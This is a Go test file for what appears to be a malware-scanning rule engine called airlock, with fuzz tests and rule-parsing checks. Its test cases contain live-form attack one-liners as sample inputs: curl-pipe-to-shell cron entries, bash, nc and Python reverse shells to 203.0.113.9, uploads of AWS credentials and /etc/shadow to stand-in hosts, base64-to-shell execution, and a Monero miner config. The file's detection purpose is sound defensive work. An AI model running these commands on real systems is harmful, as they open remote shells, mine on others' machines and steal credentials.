package rules

import (
	"bytes"
	"os"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/shareddata"
)

func compileBuiltin(t testing.TB) *Set {
	t.Helper()
	rs, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	s, err := Compile(rs)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func ids(hs []Hit) string {
	var out []string
	for _, h := range hs {
		out = append(out, h.Rule.ID)
	}
	return strings.Join(out, ",")
}

func TestBuiltinRules(t *testing.T) {
	s := compileBuiltin(t)
	wallet := "4" + "8" + strings.Repeat("A", 93)
	cases := []struct {
		path, content string
		elf           bool
		want          []string
		not           []string
	}{
		{path: "/opt/app/config.json", content: `{"autosave": true, "donate-level": 1, "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "` + wallet + `"}]}`,
			want: []string{"AIRLOCK-MINER-STRATUM", "AIRLOCK-MINER-XMRIG-CONFIG", "AIRLOCK-MINER-POOL-PORT", "AIRLOCK-MINER-POOL-HOST", "AIRLOCK-MINER-WALLET"}},
		{path: "/usr/bin/kworkerd", content: "\x7fELF\x02\x01\x01junk\x00XMRig/6.21.0\x00--donate-level\x00", elf: true, want: []string{"AIRLOCK-MINER-XMRIG-BINARY"}},
		{path: "/etc/cron.d/update", content: "* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n", want: []string{"AIRLOCK-CRON-NETWORK", "AIRLOCK-DOWNLOAD-EXEC"}},
		{path: "/usr/local/bin/healthcheck.sh", content: "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", want: []string{"AIRLOCK-REVSHELL-DEVTCP"}},
		{path: "/srv/start.sh", content: "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n", want: []string{"AIRLOCK-REVSHELL-NC"}},
		{path: "/srv/x.py", content: "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0)\n", want: []string{"AIRLOCK-REVSHELL-SCRIPT"}},
		{path: "/srv/sync.sh", content: "#!/bin/sh\ncurl -s -X POST -d @$HOME/.aws/credentials https://collector.example/u\n", want: []string{"AIRLOCK-STEALER-CLOUD-CREDS"}},
		{path: "/srv/s.sh", content: "cat /etc/shadow | nc 203.0.113.9 9000\n", want: []string{"AIRLOCK-STEALER-SHADOW"}},
		{path: "/srv/b.sh", content: "echo ZWNobyBoZWxsbyB3b3JsZCBmcm9tIGEgYmFzZTY0IHBheWxvYWQ= | base64 -d | sh\n", want: []string{"AIRLOCK-BASE64-EXEC"}},
		{path: "/etc/ld.so.preload", content: "/usr/lib/libprocesshider.so\n", want: []string{"AIRLOCK-LD-PRELOAD-FILE"}},
		// Benign look-alikes stay quiet.
		{path: "/usr/lib/python3/dist-packages/botocore/credentials.py", content: "path = os.path.expanduser('~/.aws/credentials')\nurl = 'https://sts.amazonaws.com'\n", not: []string{"AIRLOCK-STEALER-CLOUD-CREDS"}},
		{path: "/etc/profile", content: "if [ -x /usr/bin/id ]; then\n  PS1='$ '\nfi\n", not: []string{"AIRLOCK-REVSHELL-DEVTCP", "AIRLOCK-DOWNLOAD-EXEC"}},
		{path: "/usr/share/doc/curl/README", content: "curl https://example.com/install.sh | sh\n", not: []string{"AIRLOCK-DOWNLOAD-EXEC"}},
	}
	for _, c := range cases {
		hs, err := s.Scan(c.path, int64(len(c.content)), strings.NewReader(c.content), 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		got := "," + ids(hs) + ","
		for _, w := range c.want {
			if !strings.Contains(got, ","+w+",") {
				t.Errorf("%s: want %s, got %s", c.path, w, got)
			}
		}
		for _, n := range c.not {
			if strings.Contains(got, ","+n+",") {
				t.Errorf("%s: %s should not fire", c.path, n)
			}
		}
	}
}

func TestScanTextConfig(t *testing.T) {
	s := compileBuiltin(t)
	hs := s.ScanText("config:Env", "POOL=stratum+ssl://xmr-eu1.nanopool.org:14433")
	got := ids(hs)
	for _, w := range []string{"AIRLOCK-MINER-STRATUM", "AIRLOCK-MINER-POOL-PORT"} {
		if !strings.Contains(got, w) {
			t.Errorf("want %s in %s", w, got)
		}
	}
}

// A literal split across reads and lines longer than the line buffer are
// still found: the automaton's state carries over.
func TestLongLinesAndBoundaries(t *testing.T) {
	s := compileBuiltin(t)
	content := strings.Repeat("x", maxLine*3+17) + "stratum+tcp://a.example:1" + strings.Repeat("y", maxLine)
	hs, err := s.Scan("/data/blob", int64(len(content)), strings.NewReader(content), 1<<30)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(ids(hs), "AIRLOCK-MINER-STRATUM") {
		t.Fatalf("stratum across buffer boundary not found: %s", ids(hs))
	}
}

// The embedded copies of the shared data must be the published files.
func TestEmbeddedDataMatchesShared(t *testing.T) {
	for emb, shared := range map[string]string{
		"miners/falco-miner-lists.yaml":    shareddata.Path(t, "miners", "falco-miner-lists.yaml"),
		"names/official-images.txt":        shareddata.Path(t, "names", "official-images.txt"),
		"names/official-images-former.txt": shareddata.Path(t, "names", "official-images-former.txt"),
	} {
		want, err := os.ReadFile(shared)
		if err != nil {
			t.Fatal(err)
		}
		got, err := Builtin.ReadFile(emb)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from %s", emb, shared)
		}
	}
	m, err := Miners()
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Ports) != 29 || len(m.Domains) != 63 || len(m.HTTPSDomains) != 18 || len(m.HTTPDomains) != 8 {
		t.Fatalf("miner lists: %d ports %d domains %d https %d http", len(m.Ports), len(m.Domains), len(m.HTTPSDomains), len(m.HTTPDomains))
	}
}

func TestParseRejects(t *testing.T) {
	for _, doc := range []string{
		"rules: [{id: x, type: malware, severity: high, title: t, match: {any: [ab]}}]",
		"rules: [{id: 'bad id', type: malware, severity: high, title: t, match: {any: [abc]}}]",
		"rules: [{id: x, type: virus, severity: high, title: t, match: {any: [abc]}}]",
		"rules: [{id: x, type: malware, severity: urgent, title: t, match: {any: [abc]}}]",
		"rules: [{id: x, type: malware, severity: high, title: t, match: {regex: '('}}]",
		"rules: [{id: x, type: malware, severity: high, title: t, match: {}}]",
		"rules: [{id: x, type: malware, severity: high, title: t, paths: [relative], match: {any: [abc]}}]",
		"rules: [{id: x, type: malware, severity: high, title: t, unknown: 1, match: {any: [abc]}}]",
	} {
		if _, err := Parse("t.yaml", []byte(doc)); err == nil {
			t.Errorf("accepted %s", doc)
		}
	}
}

func FuzzParse(f *testing.F) {
	b, _ := Builtin.ReadFile("malware.yaml")
	f.Add(b)
	f.Add([]byte("rules: [{id: x, type: malware, severity: high, title: t, match: {any: [abc], regex: 'a+b'}}]"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := Parse("fuzz.yaml", data)
		if err != nil {
			return
		}
		s, err := Compile(rs)
		if err != nil {
			t.Fatalf("parsed rules do not compile: %v", err)
		}
		_, _ = s.Scan("/x", int64(len(data)), bytes.NewReader(data), 1<<20)
	})
}

func FuzzScan(f *testing.F) {
	s := compileBuiltin(f)
	f.Add("/etc/cron.d/x", []byte("* * * * * curl http://x | sh\n"))
	f.Add("/bin/x", []byte("\x7fELF stratum+tcp://pool.minexmr.com:4444 donate-level"))
	f.Fuzz(func(t *testing.T, p string, data []byte) {
		hs, err := s.Scan(p, int64(len(data)), bytes.NewReader(data), 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range hs {
			if len(h.Excerpt) > 200+len(h.Match) {
				t.Fatalf("excerpt too long: %d", len(h.Excerpt))
			}
		}
	})
}
